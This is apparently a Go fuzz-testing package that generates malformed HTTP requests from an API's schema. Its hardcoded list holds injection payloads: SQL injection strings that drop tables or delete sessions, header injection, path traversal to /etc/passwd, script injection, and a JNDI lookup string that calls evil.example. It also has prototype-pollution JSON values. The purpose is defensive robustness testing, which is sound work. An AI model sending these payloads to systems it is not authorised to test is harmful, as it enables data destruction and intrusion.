package hostile

import (
	"encoding/json"
	"fmt"
	"maps"
	"math/rand/v2"
	"net/url"
	"slices"
	"strings"
)

// Texts are what a field of text is attacked with.
var Texts = []string{
	"' OR '1'='1", "'; DROP TABLE accounts; --", `" OR ""="`, `\'; SELECT pg_sleep(10); --`, "1); DELETE FROM sessions; --", "$1", "%s%n%d",
	"x\r\nSet-Cookie: session=evil", "x\nLocation: https://evil.example", "\x00", "a\x00b", "\u202e\u2066", "\ufeff", "é́́́",
	"../../../../etc/passwd", "..%2f..%2f", "%00", "%c0%ae", "https://evil.example/", "//evil.example", "javascript:alert(1)",
	"<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "null", "true", "-1", "1e309", "NaN", "Infinity",
	"9223372036854775808", "0x10", "１２", "2026-02-30", "0000-00-00", "294277-01-01", "-0001-01-01", "infinity", "epoch", "now",
	"ada@example.com\r\nBcc: eve@example.com", "\"a b\"@example.com", "ada@[127.0.0.1]", "a@" + strings.Repeat("b", 250) + ".example",
	strings.Repeat("a", 5000), strings.Repeat("é", 300), "\xff\xfe", "\xed\xa0\x80", "\xf0\x9f\x92", " ", "",
	"18446744073709551616", "1.5", "Europe/../Berlin", "/etc/localtime", "Local",
}

// raws are JSON values that no field wants.
var raws = []string{
	"null", "true", "false", "0", "-0", "-1", "1e308", "1e309", "-1e999", "1e-999", "0.1", "9223372036854775807", "9223372036854775808",
	"-9223372036854775809", "123456789012345678901234567890", "[]", "{}", "[[]]", `{"a":{"a":{"a":1}}}`, `""`, `"\u0000"`, `"\ud800"`,
	`"\ud800\u0041"`, `{"$ref":"#"}`, `{"__proto__":{"a":1}}`, `[null]`, `"2026-11-26"`,
}

// Request is a request to be sent. Its parts may hold anything that a client can send.
type Request struct {
	Operation Operation
	Target    string // path and query, escaped
	Body      string
	HasBody   bool
}

// Generator makes requests. The same seed gives the same ones.
type Generator struct {
	// Known are values of path parameters that there is something behind, by the parameter's name.
	Known map[string][]string

	random     *rand.Rand
	operations []Operation
}

// New makes a generator over the operations of a document.
func New(operations []Operation, seed uint64) *Generator {
	return &Generator{random: rand.New(rand.NewPCG(seed, 0x7261696e)), operations: operations}
}

// Next gives a request that differs from a well-formed one in a few places.
func (g *Generator) Next() Request {
	operation := g.operations[g.random.IntN(len(g.operations))]
	request := Request{Operation: operation, HasBody: operation.Body != nil}
	var query []string
	path := operation.Path
	for _, parameter := range operation.Parameters {
		text := g.text(parameter.Schema)
		if parameter.In == "path" {
			if known := g.Known[parameter.Name]; len(known) > 0 && g.random.IntN(2) == 0 {
				text = g.pick(known...)
			}
			path = strings.ReplaceAll(path, "{"+parameter.Name+"}", url.PathEscape(text))
			continue
		}
		for range [...]int{0, 1, 1, 1, 2}[g.random.IntN(5)] {
			query = append(query, parameter.Name+"="+url.QueryEscape(text))
		}
	}
	if g.rarely() {
		query = append(query, g.pick("unknown=1", "%zz", "a;b", "=&=", "&&&", "limit=1&limit=2", "%00=1"))
	}
	request.Target = path
	if len(query) > 0 {
		request.Target += "?" + strings.Join(query, "&")
	}
	switch {
	case request.HasBody:
		request.Body = g.document(operation.Body)
	case g.rarely():
		request.HasBody, request.Body = true, g.pick("{}", "null", "x", g.nested())
	}
	return request
}

// One gives a request whose fields are all well-formed but one, which holds the text.
func (g *Generator) One(operation Operation, field, text string) Request {
	request := Request{Operation: operation, HasBody: operation.Body != nil}
	path := operation.Path
	query := url.Values{}
	for _, parameter := range operation.Parameters {
		value := g.proper(parameter.Schema)
		if parameter.Name == field {
			value = text
		}
		if parameter.In == "path" {
			path = strings.ReplaceAll(path, "{"+parameter.Name+"}", url.PathEscape(value))
		} else if parameter.Name == field {
			query.Set(parameter.Name, value)
		}
	}
	request.Target = path
	if len(query) > 0 {
		request.Target += "?" + query.Encode()
	}
	if operation.Body != nil {
		request.Body = g.with(operation.Body, "", field, text)
	}
	return request
}

// Fields names every field of an operation: parameters, and those of the body by their paths.
func (o Operation) Fields() []string {
	var fields []string
	for _, parameter := range o.Parameters {
		fields = append(fields, parameter.Name)
	}
	return append(fields, fieldsOf(o.Body, "")...)
}

func fieldsOf(schema *Schema, prefix string) []string {
	if schema == nil {
		return nil
	}
	var fields []string
	for _, name := range slices.Sorted(maps.Keys(schema.Properties)) {
		fields = append(fields, prefix+"."+name)
		fields = append(fields, fieldsOf(schema.Properties[name], prefix+"."+name)...)
	}
	return fields
}

// with writes a well-formed value with one field replaced.
func (g *Generator) with(schema *Schema, at, field, text string) string {
	if at == field {
		return quote(text)
	}
	if schema.kind() != "object" {
		return g.properJSON(schema)
	}
	var members []string
	for _, name := range slices.Sorted(maps.Keys(schema.Properties)) {
		path := at + "." + name
		if slices.Contains(schema.Required, name) || path == field || strings.HasPrefix(field, path+".") {
			members = append(members, quote(name)+":"+g.with(schema.Properties[name], path, field, text))
		}
	}
	return "{" + strings.Join(members, ",") + "}"
}

// quote writes a JSON string; bytes that are no UTF-8 stay as they are.
func quote(text string) string {
	var out strings.Builder
	out.WriteByte('"')
	for i := range len(text) {
		switch b := text[i]; {
		case b == '"' || b == '\\':
			out.WriteByte('\\')
			out.WriteByte(b)
		case b < 0x20:
			fmt.Fprintf(&out, `\u%04x`, b)
		default:
			out.WriteByte(b)
		}
	}
	out.WriteByte('"')
	return out.String()
}

func (g *Generator) rarely() bool                 { return g.random.IntN(8) == 0 }
func (g *Generator) pick(choice ...string) string { return choice[g.random.IntN(len(choice))] }

// nested is JSON as deep as a body can be.
func (g *Generator) nested() string {
	depth := 1 << (4 + g.random.IntN(11))
	if g.random.IntN(2) == 0 {
		return strings.Repeat("[", depth) + strings.Repeat("]", depth)
	}
	return strings.Repeat(`{"a":`, depth/4) + "1" + strings.Repeat("}", depth/4)
}

// text is a value of a parameter.
func (g *Generator) text(schema *Schema) string {
	if g.random.IntN(3) == 0 {
		return Texts[g.random.IntN(len(Texts))]
	}
	return g.proper(schema)
}

// proper is a well-formed value as text.
func (g *Generator) proper(schema *Schema) string {
	value := g.properJSON(schema)
	var text string
	if json.Unmarshal([]byte(value), &text) == nil {
		return text
	}
	return value
}

// properJSON is a well-formed value.
func (g *Generator) properJSON(schema *Schema) string {
	if len(schema.Enum) > 0 {
		text, err := json.Marshal(schema.Enum[g.random.IntN(len(schema.Enum))])
		if err == nil {
			return string(text)
		}
	}
	switch schema.kind() {
	case "string":
		return quote(g.properText(schema))
	case "integer", "number":
		low, high := 0.0, 1000.0
		if schema.Minimum != nil {
			low = *schema.Minimum
		}
		if schema.Maximum != nil {
			high = *schema.Maximum
		}
		return fmt.Sprint(int64(low + g.random.Float64()*(high-low)))
	case "boolean":
		return "true"
	case "array":
		return "[]"
	case "object":
		return g.with(schema, "", "\x00", "")
	}
	return "null"
}

func (g *Generator) properText(schema *Schema) string {
	switch schema.Format {
	case "email":
		return fmt.Sprintf("somebody-%d@example.com", g.random.Uint64())
	case "date":
		return fmt.Sprintf("20%02d-%02d-%02d", g.random.IntN(100), 1+g.random.IntN(12), 1+g.random.IntN(28))
	case "date-time":
		return "2026-11-26T12:00:00Z"
	case "uuid":
		return "00000000-0000-4000-8000-000000000000"
	}
	return strings.Repeat("correct horse battery ", 1+schema.MinLength/20)[:max(12, schema.MinLength)]
}

// document is a body: mostly an object of the schema with some fields wrong, sometimes something else.
func (g *Generator) document(schema *Schema) string {
	switch g.random.IntN(16) {
	case 0:
		return g.nested()
	case 1:
		return raws[g.random.IntN(len(raws))]
	case 2: // cut short
		text := g.value(schema)
		return text[:g.random.IntN(len(text)+1)]
	case 3: // with a byte replaced
		text := []byte(g.value(schema))
		if len(text) > 0 {
			text[g.random.IntN(len(text))] = byte(g.random.UintN(256))
		}
		return string(text)
	case 4:
		return g.value(schema) + g.pick("x", "{}", ",", "\x00", "\n\n")
	}
	return g.value(schema)
}

// value is a value of the schema with some parts wrong.
func (g *Generator) value(schema *Schema) string {
	switch {
	case g.rarely():
		return raws[g.random.IntN(len(raws))]
	case schema.kind() == "string" && g.random.IntN(3) == 0:
		return quote(Texts[g.random.IntN(len(Texts))])
	case schema.kind() != "object":
		return g.properJSON(schema)
	}
	var members []string
	for _, name := range slices.Sorted(maps.Keys(schema.Properties)) {
		if (slices.Contains(schema.Required, name) || g.random.IntN(2) == 0) && !g.rarely() {
			members = append(members, quote(name)+":"+g.value(schema.Properties[name]))
			if g.rarely() { // twice
				members = append(members, quote(name)+":"+g.value(schema.Properties[name]))
			}
		}
	}
	if g.rarely() {
		members = append(members, quote(g.pick("", "unknown", "__proto__", "\x00", "\xff", strings.Repeat("a", 5000)))+":1")
	}
	g.random.Shuffle(len(members), func(i, j int) { members[i], members[j] = members[j], members[i] })
	return "{" + strings.Join(members, ",") + "}"
}
